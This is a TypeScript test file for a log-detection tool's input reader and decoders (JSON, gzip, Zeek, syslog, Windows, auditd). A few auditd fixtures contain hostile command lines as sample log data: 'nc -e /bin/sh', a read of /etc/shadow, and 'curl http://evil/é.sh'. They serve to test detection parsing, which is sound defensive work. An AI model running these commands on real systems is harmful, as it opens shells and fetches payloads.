import { test } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import fc from "fast-check";
import { readRecords } from "../../src/workloads/cyber/input/read.ts";
import { decodeRecord, newDecoderState } from "../../src/workloads/cyber/input/decode.ts";

async function records(text: string) {
  const out = [];
  for await (const batch of readRecords(Readable.from([Buffer.from(text)]))) out.push(...batch);
  return out;
}

/** Each record as [line, parsed JSON or "BAD"]. */
async function parsed(text: string): Promise<Array<[number, unknown]>> {
  return (await records(text)).map((r) => {
    try {
      return [r.line, JSON.parse(r.text)];
    } catch {
      return [r.line, "BAD"];
    }
  });
}

const dir = mkdtempSync(join(tmpdir(), "concord-input-"));
const rule = join(dir, "rule.yml");
writeFileSync(rule, "title: f is x\nid: f-is-x\nlogsource: { product: probe }\ndetection:\n  sel:\n    F: x\n  condition: sel\n");

function detect(args: string[], input?: string) {
  const r = spawnSync(process.execPath, ["bin/concord.js", "detect", "--no-event", "--rules", rule, ...args], { input, encoding: "utf8" });
  const lines = r.stdout.split("\n").filter((l) => l !== "").map((l) => (JSON.parse(l) as { source: { line: number } }).source.line);
  return { lines, stderr: r.stderr, status: r.status };
}

test("reader: a truncated JSON line is one bad record and every later line is still read", async () => {
  assert.deepEqual(await parsed('{"F":"x"}\n{"F":"x"\n{"F":"x"}\n{"F":"x"}\n'), [[1, { F: "x" }], [2, "BAD"], [3, { F: "x" }], [4, { F: "x" }]]);
  // Cut after a key, so the next line would pass as its value: still only the cut line is lost.
  assert.deepEqual(await parsed('{"F":"x","G":\n{"F":"x"}\n{"F":"x"}\n'), [[1, "BAD"], [2, { F: "x" }], [3, { F: "x" }]]);
  // Cut inside a string, inside an array, after a comma; and as the last line of the file.
  assert.deepEqual(await parsed('{"F":"x\n[{"F":1},\n{"F":"x",\n{"a":1}\n{"F":"x"'), [[1, "BAD"], [2, "BAD"], [3, "BAD"], [4, { a: 1 }], [5, "BAD"]]);
});

test("reader: a line that opens a bracket but is not JSON does not swallow the text lines after it", async () => {
  const recs = await records("[INFO] worker [starting\nOct 11 22:14:15 host sshd[1]: ok\n{broken\nplain text\n");
  assert.deepEqual(recs.map((r) => [r.line, r.text]), [
    [1, "[INFO] worker [starting"], [2, "Oct 11 22:14:15 host sshd[1]: ok"], [3, "{broken"], [4, "plain text"],
  ]);
});

test("reader: pretty-printed documents still span lines (objects, arrays of objects one per line, unindented), also after a broken one", async () => {
  const pretty = JSON.stringify({ a: { b: [1, { c: "}{[" }] }, d: "x" }, null, 2);
  const arrayLines = '[\n{"F":"x"},\n{"F":"y"}\n]';
  const unindented = '{\n"a": [\n{\n"b": 1\n},\n{}\n]\n}';
  const text = `${pretty}\n${arrayLines}\n${unindented}\n{\n  "a": 1\n  "b": 2\n}\n${pretty}\n{"F":"x"}\n`;
  const got = await parsed(text);
  const n = pretty.split("\n").length;
  assert.deepEqual(got.slice(0, 3), [[1, JSON.parse(pretty)], [n + 1, [{ F: "x" }, { F: "y" }]], [n + 5, JSON.parse(unindented)]]);
  const broken = n + 5 + unindented.split("\n").length;
  // The broken document is reported from its first line; nothing after it is lost.
  assert.deepEqual(got[3], [broken, "BAD"]);
  assert.deepEqual(got.slice(-2), [[broken + 4, JSON.parse(pretty)], [broken + 4 + n, { F: "x" }]]);
});

test("reader: any sequence of JSON documents, compact or pretty-printed with any indentation, comes back one record each", async () => {
  const doc = fc.oneof(fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 3 }), { maxKeys: 5 }), fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 5 }));
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(doc, fc.constantFrom(undefined, 0, 1, 2, "\t")), { minLength: 1, maxLength: 6 }), async (docs) => {
      const texts = docs.map(([d, indent]) => JSON.stringify(d, null, indent));
      const starts = texts.map((_, i) => 1 + texts.slice(0, i).reduce((n, t) => n + t.split("\n").length, 0));
      const got = await parsed(texts.join("\n") + "\n");
      assert.deepEqual(got, docs.map(([d], i) => [starts[i], JSON.parse(JSON.stringify(d))]));
    }),
    { numRuns: 300 },
  );
});

test("reader: a JSON line cut anywhere loses only that line", async () => {
  const obj = fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 2 }), { minKeys: 1, maxKeys: 4 });
  await fc.assert(
    fc.asyncProperty(fc.array(obj, { minLength: 1, maxLength: 6 }), fc.nat(), fc.nat(), async (objs, which, where) => {
      const bad = which % objs.length;
      const lines = objs.map((o) => JSON.stringify(o));
      lines[bad] = lines[bad]!.slice(0, 1 + (where % (lines[bad]!.length - 1)));
      const got = await parsed(lines.join("\n") + "\n");
      assert.deepEqual(got, objs.map((o, i) => [i + 1, i === bad ? "BAD" : JSON.parse(JSON.stringify(o))]));
    }),
    { numRuns: 500 },
  );
});

test("concord detect: a truncated line is reported with file and line, and the lines after it are evaluated (file, stdin, json format)", () => {
  const file = join(dir, "trunc.jsonl");
  writeFileSync(file, '{"F":"x"}\n{"F":"x"\n{"F":"x"}\n{"F":"x"}\n');
  for (const args of [[file], ["--input-format", "json", file]]) {
    const r = detect(args);
    assert.deepEqual(r.lines, [1, 3, 4], args.join(" "));
    assert.match(r.stderr, /3 events in 1 file\(s\), 3 alerts, 1 undecodable records \(first: \S*trunc\.jsonl:2 not valid JSON\)/);
  }
  assert.deepEqual(detect(["-"], '{"F":"x"\n{"F":"x"}\n').lines, [2]);
});

test("concord detect: a bad first line followed by many valid lines loses only that line", () => {
  const file = join(dir, "many.jsonl");
  writeFileSync(file, '{"F":"x"\n' + '{"F":"y"}\n'.repeat(50_000) + '{"F":"x"}\n');
  const r = detect([file]);
  assert.deepEqual(r.lines, [50_002]);
  assert.match(r.stderr, /50001 events in 1 file\(s\), 1 alerts, 1 undecodable records \(first: \S*many\.jsonl:1 not valid JSON\)/);
});

test("Windows: a Data-list name with spaces is also offered without them, as EventData names are", () => {
  const st = newDecoderState("f");
  const system = { EventID: 4657, Channel: "Security" };
  const list = decodeRecord(st, JSON.stringify({ Event: { System: system, EventData: { Data: [{ "#attributes": { Name: "New Value" }, "#text": "abc" }, { "#attributes": { Name: "Old Value" }, "#text": "z" }] } } }), 1)[0]!;
  assert.equal(list.get("NewValue"), "abc");
  assert.equal(list.get("New Value"), "abc");
  assert.equal(list.get("OldValue"), "z");
  const single = decodeRecord(st, JSON.stringify({ Event: { System: system, EventData: { Data: { "#attributes": { Name: "New Value" }, "#text": "abc" } } } }), 1)[0]!;
  assert.equal(single.get("NewValue"), "abc");
  // A name already present without spaces keeps its own value.
  const both = decodeRecord(st, JSON.stringify({ Event: { System: system, EventData: { Data: [{ "#attributes": { Name: "NewValue" }, "#text": "own" }, { "#attributes": { Name: "New Value" }, "#text": "abc" }] } } }), 1)[0]!;
  assert.equal(both.get("NewValue"), "own");
});

// --- Session 6 probe: Zeek header blocks in stream order, RFC 5424 BOM, damaged gzip, directories as log paths.
import { gzipSync as gzipBytes } from "node:zlib";
import { mkdirSync } from "node:fs";
import { compileRules, detectStream } from "../../src/workloads/cyber/index.ts";

const zeekRules = compileRules([
  { path: "dns.yml", text: "title: dns query\nid: zeek-dns\nlogsource: { product: zeek, service: dns }\ndetection:\n  sel:\n    query: x.example\n  condition: sel\n" },
  { path: "http.yml", text: "title: http uri\nid: zeek-http\nlogsource: { product: zeek, service: http }\ndetection:\n  sel:\n    uri: x.example\n  condition: sel\n" },
]);
const zeekHeader = (path: string, fields: string[]) =>
  ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", `#path\t${path}`, `#fields\t${fields.join("\t")}`, `#types\t${fields.map(() => "string").join("\t")}`];

test("Zeek TSV: each header block applies only to the rows after it (one thread and worker threads, within and across batches)", async () => {
  // Same width in both blocks, so a row read with the wrong header would still decode (as the wrong service).
  const rows = (n: number, value: string) => Array.from({ length: n }, (_, i) => `17000000${String(i).padStart(2, "0")}.0\tC${i}\t${value}`);
  const small = [...zeekHeader("dns", ["ts", "uid", "query"]), ...rows(1, "x.example"), "#close\t2024-05-01-11-00-00",
    ...zeekHeader("http", ["ts", "uid", "uri"]), ...rows(1, "/a.php")];
  // The second block starts in a later batch of the reader (batches hold 512 records).
  const large = [...zeekHeader("dns", ["ts", "uid", "query"]), ...rows(600, "a.example"), ...rows(1, "x.example"),
    ...zeekHeader("http", ["ts", "uid", "uri"]), ...rows(600, "/b"), ...rows(1, "x.example")];
  for (const [name, lines, want] of [["small", small, ["zeek-dns"]], ["large", large, ["zeek-dns", "zeek-http"]]] as const) {
    const file = join(dir, `zeek-${name}.log`);
    writeFileSync(file, lines.join("\n") + "\n");
    for (const threads of [1, 2]) {
      const got: string[] = [];
      const summary = await detectStream(zeekRules, [file], { threads, onAlert: (a) => got.push(a.rule.id) });
      assert.deepEqual(got, want, `${name}, ${threads} thread(s)`);
      assert.equal(summary.records, lines.filter((l) => !l.startsWith("#")).length, `${name}, ${threads} thread(s): header lines are not records`);
    }
  }
});

test("syslog RFC 5424: a UTF-8 BOM opening MSG is not part of the message (RFC 5424 6.4)", () => {
  const ev = decodeRecord(newDecoderState("f"), "<34>1 2024-05-01T10:00:00Z host su - ID47 - \uFEFF'su root' failed", 1)[0]!;
  assert.equal(ev.get("message"), "'su root' failed");
  const sd = decodeRecord(newDecoderState("f"), '<34>1 2024-05-01T10:00:00Z host su - ID47 [a b="c"] \uFEFFhello', 1)[0]!;
  assert.equal(sd.get("message"), "hello");
});

test("reader: a gzip cut short or corrupt yields every line that inflates, then reports the damage (not thrown when asked)", async () => {
  const text = Array.from({ length: 3000 }, (_, i) => JSON.stringify({ i, pad: "p".repeat(i % 40) })).join("\n") + "\n";
  const gz = gzipBytes(Buffer.from(text));
  const corrupt = Buffer.from(gz);
  corrupt[corrupt.length - 6]! ^= 0xff; // the CRC: every byte inflates, the check fails
  for (const [what, bytes, reason] of [
    ["trailer cut", gz.subarray(0, gz.length - 4), /gzip data is corrupt: it ends early/],
    ["cut mid-stream", gz.subarray(0, Math.floor(gz.length / 2)), /gzip data is corrupt: it ends early/],
    ["bad checksum", corrupt, /gzip data is corrupt \(incorrect data check\)/],
  ] as const) {
    const damage: string[] = [];
    const recs = [];
    for await (const batch of readRecords(Readable.from([bytes]), { onDamage: (r) => damage.push(r) })) recs.push(...batch);
    assert.equal(damage.length, 1, what);
    assert.match(damage[0]!, reason, what);
    const whole = recs.filter((r) => { try { JSON.parse(r.text); return true; } catch { return false; } });
    // Every complete line before the damage is a record, in order; at most the last (cut) one is broken.
    // (On a failed checksum zlib withholds its last output chunk, up to 64 KiB, so only most lines come back.)
    assert.ok(whole.length >= { "trailer cut": 3000, "cut mid-stream": 1000, "bad checksum": 1000 }[what], `${what}: ${whole.length} lines`);
    assert.ok(recs.length - whole.length <= 1, what);
    assert.deepEqual(whole.map((r) => r.line), whole.map((_, i) => i + 1), what);
  }
  // Without onDamage the reader still refuses the input (the API's uploads).
  await assert.rejects(async () => { for await (const _ of readRecords(Readable.from([gz.subarray(0, gz.length - 4)]))) { /* drain */ } }, /gzip/);
});

test("concord detect: a damaged gzip is read up to the damage, reported by name, and the files after it are read; exit 2", () => {
  const good = join(dir, "good.jsonl");
  writeFileSync(good, '{"F":"x"}\n');
  const gz = gzipBytes(Buffer.from('{"F":"x"}\n{"F":"x"}\n{"F":"x"}\n'));
  const cut = join(dir, "cut.jsonl.gz");
  writeFileSync(cut, gz.subarray(0, gz.length - 4));
  for (const threads of ["1", "2"]) {
    const r = detect(["--threads", threads, good, cut, good]);
    assert.deepEqual(r.lines, [1, 1, 2, 3, 1], `threads ${threads}`);
    assert.match(r.stderr, /cut\.jsonl\.gz: gzip data is corrupt: it ends early/);
    assert.match(r.stderr, /5 events in 3 file\(s\), 5 alerts, 1 damaged file/);
    assert.equal(r.status, 2);
  }
});

test("concord detect: a directory among the log files is refused before anything is read, like a missing file (exit 2)", () => {
  const logdir = join(dir, "logdir");
  mkdirSync(logdir, { recursive: true });
  const good = join(dir, "good2.jsonl");
  writeFileSync(good, '{"F":"x"}\n');
  for (const threads of [[], ["--threads", "1"]]) {
    const r = detect([...threads, good, logdir, good]);
    assert.equal(r.status, 2, r.stderr);
    assert.deepEqual(r.lines, []);
    assert.match(r.stderr, /logdir is a directory/);
    const missing = detect([...threads, good, join(dir, "no-such.jsonl")]);
    assert.equal(missing.status, 2, missing.stderr);
    assert.deepEqual(missing.lines, []);
    assert.match(missing.stderr, /cannot read log file \S*no-such\.jsonl/);
  }
});

test("concord detect: with a damaged file, every alert reaches a piped stdout before the exit with 2", () => {
  // 4,000 alert lines (under spawnSync's 1 MiB output limit), far more than one pipe write holds.
  const gz = gzipBytes(Buffer.from('{"F":"x"}\n'.repeat(4_000)));
  const cut = join(dir, "many-cut.jsonl.gz");
  writeFileSync(cut, gz.subarray(0, gz.length - 4));
  const r = detect([cut]);
  assert.equal(r.status, 2);
  assert.equal(r.lines.length, 4_000);
});

test("reader: a slow consumer still gets every line inflated before a gzip breaks off (zlib's error must not drop its last output)", async () => {
  const { setTimeout: sleep } = await import("node:timers/promises");
  const text = Array.from({ length: 3000 }, (_, i) => JSON.stringify({ i, pad: "p".repeat(i % 40) })).join("\n") + "\n";
  const gz = gzipBytes(Buffer.from(text));
  const fast: number[] = [];
  for (const cut of [gz.length - 4, gz.length - 9, Math.floor(gz.length / 2)]) {
    for (const [batch, pause] of [[512, 0], [64, 1], [1, 1]] as const) {
      let lines = 0;
      let damage = 0;
      for await (const b of readRecords(Readable.from([gz.subarray(0, cut)]), { batch, onDamage: () => damage++ })) {
        lines += b.filter((r) => r.text.endsWith("}")).length;
        if (pause) await sleep(pause);
      }
      assert.equal(damage, 1);
      if (pause === 0) fast.push(lines);
      else assert.equal(lines, fast[fast.length - 1], `cut at ${cut} of ${gz.length}, batches of ${batch}`);
    }
  }
  assert.deepEqual(fast.slice(0, 2), [3000, 3000]);
});

test("Zeek TSV: \\xNN escapes (non-printable and non-ASCII bytes, the separator, a backslash) are decoded, in set elements after the split", () => {
  const state = newDecoderState("x.log");
  for (const h of [...zeekHeader("http", ["ts", "uid", "query", "user_agent", "tags"]), "#types\ttime\tstring\tstring\tstring\tset[string]"]) {
    assert.ok(decodeRecord(state, h, 1).length === 0, h);
  }
  const ev = decodeRecord(state, "1714557600.0\tC1\tcaf\\xc3\\xa9.example\ta\\x09b \\x5cx41 \\x\tx\\x2cy,z", 2)[0]!;
  assert.equal(ev.get("query"), "café.example");
  assert.equal(ev.get("user_agent"), "a\tb \\x41 \\x");
  assert.deepEqual(ev.get("tags"), ["x,y", "z"]);
  // A byte sequence that is not UTF-8 keeps each byte as the character of that code.
  assert.equal(decodeRecord(state, "1\tC2\t\\xff\\xfe-\t-\t-", 3)[0]!.get("query"), "\u00ff\u00fe-");
});

test("Windows: a <Data Name='x'/> element with no text is an empty string, not absent or an object", () => {
  const st = newDecoderState("f");
  const system = { EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational" };
  for (const empty of [{ "#attributes": { Name: "ParentCommandLine" } }, { "@Name": "ParentCommandLine" }]) {
    const ev = decodeRecord(st, JSON.stringify({ Event: { System: system, EventData: { Data: [{ "#attributes": { Name: "Image" }, "#text": "C:\\cmd.exe" }, empty] } } }), 1)[0]!;
    assert.equal(ev.get("ParentCommandLine"), "", JSON.stringify(empty));
    assert.equal(ev.get("Image"), "C:\\cmd.exe");
    const single = decodeRecord(st, JSON.stringify({ Event: { System: system, EventData: { Data: empty } } }), 1)[0]!;
    assert.equal(single.get("ParentCommandLine"), "", JSON.stringify(empty));
  }
});

test("reader: a UTF-16 file with a byte-order mark (PowerShell's Out-File) is read as UTF-16, little or big endian, gzipped too", async () => {
  const text = '{"action":"delete","w":"é€😀"}\r\n{"b":2}\r\n';
  const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
  const be = Buffer.from(le);
  for (let i = 0; i + 1 < be.length; i += 2) [be[i], be[i + 1]] = [le[i + 1]!, le[i]!];
  const split = (b: Buffer) => Array.from({ length: Math.ceil(b.length / 7) }, (_, i) => b.subarray(i * 7, i * 7 + 7)); // odd chunk ends
  for (const [what, chunks] of [["le", [le]], ["be", [be]], ["le in 7-byte chunks", split(le)], ["be in 7-byte chunks", split(be)], ["le gzipped", [gzipBytes(le)]]] as const) {
    const recs = [];
    for await (const batch of readRecords(Readable.from(chunks))) recs.push(...batch);
    assert.deepEqual(recs.map((r) => [r.line, JSON.parse(r.text)]), [[1, { action: "delete", w: "é€😀" }], [2, { b: 2 }]], what);
  }
});

test("syslog over TCP with RFC 6587 octet counting: each frame is a record, also several frames on one line", () => {
  const frame = (msg: string) => `${Buffer.byteLength(msg)} ${msg}`;
  const a = "<14>1 2024-05-01T10:00:00Z h app - - - framed é";
  const b = "<14>May  1 10:00:01 h sshd[7]: Accepted password";
  const one = decodeRecord(newDecoderState("f"), frame(a), 4);
  assert.deepEqual(one.map((e) => [e.get("program"), e.get("message"), e.origin.line]), [["app", "framed é", 4]]);
  const two = decodeRecord(newDecoderState("f"), frame(a) + frame(b), 5);
  assert.deepEqual(two.map((e) => [e.get("program"), e.get("message")]), [["app", "framed é"], ["sshd", "Accepted password"]]);
  // A count that takes in the newline ending the frame (the reader has cut it).
  assert.equal(decodeRecord(newDecoderState("f"), `${Buffer.byteLength(a) + 1} ${a}`, 1)[0]!.get("program"), "app");
  // A count that does not fit (a frame whose message held a newline, a miscounting sender): the rest of the line
  // is still one syslog message when it reads as one, else the line stays text.
  const loose = decodeRecord(newDecoderState("f"), `37 ${a}`, 1);
  assert.deepEqual(loose.map((e) => [e.get("program"), e.get("message")]), [["app", "framed é"]]);
  assert.equal(decodeRecord(newDecoderState("f"), "200 <html> ok", 1)[0]!.get("message"), "200 <html> ok");
});

test("auditd records inside syslog lines (audisp-syslog, the kernel's own audit: lines) are auditd events; numeric types named", () => {
  for (const fmt of ["auto", "auditd"] as const) {
    const st = newDecoderState("messages", fmt);
    const audisp = decodeRecord(st, 'May  1 10:00:00 web1 audisp-syslog: type=EXECVE msg=audit(1714557600.100:5): argc=3 a0="nc" a1="-e" a2="/bin/sh"', 1)[0]!;
    assert.deepEqual([audisp.get("type"), audisp.get("a0"), audisp.get("serial"), audisp.get("host"), audisp.time], ["EXECVE", "nc", "5", "web1", 1714557600100], fmt);
    assert.deepEqual(audisp.logsource, { product: "linux", categories: [], services: ["auditd"] });
    const kernel = decodeRecord(st, 'May  1 10:00:00 web1 kernel: [1234.5678] audit: type=1400 audit(1714557600.100:6): apparmor="DENIED" operation="open" name="/etc/shadow" comm="tcpdump"', 1)[0]!;
    assert.deepEqual([kernel.get("type"), kernel.get("apparmor"), kernel.get("name"), kernel.get("serial")], ["AVC", "DENIED", "/etc/shadow", "6"], fmt);
    assert.deepEqual(kernel.logsource?.services, ["auditd"]);
  }
  // A syslog line that only mentions audit stays syslog.
  const plain = decodeRecord(newDecoderState("f"), "May  1 10:00:00 web1 sshd[1]: audit(x) type=foo", 1)[0]!;
  assert.deepEqual(plain.logsource?.services, ["syslog", "sshd", "auth"]);
});

test("auditd: an argument split into aN[i] chunks (with aN_len) is rebuilt into aN, across a character cut between chunks", () => {
  const hex = Buffer.from("curl http://evil/é.sh", "utf8").toString("hex").toUpperCase();
  const ev = decodeRecord(newDecoderState("f"), `type=EXECVE msg=audit(1714557600.1:9): argc=3 a0="sh" a1_len=${hex.length} a1[0]=${hex.slice(0, 38)} a1[1]=${hex.slice(38)} a2="z"`, 1)[0]!;
  assert.equal(ev.get("a1"), "curl http://evil/é.sh");
  assert.equal(ev.get("a0"), "sh");
  assert.equal(ev.get("a2"), "z");
  assert.equal(ev.get("a1[0]"), undefined);
});
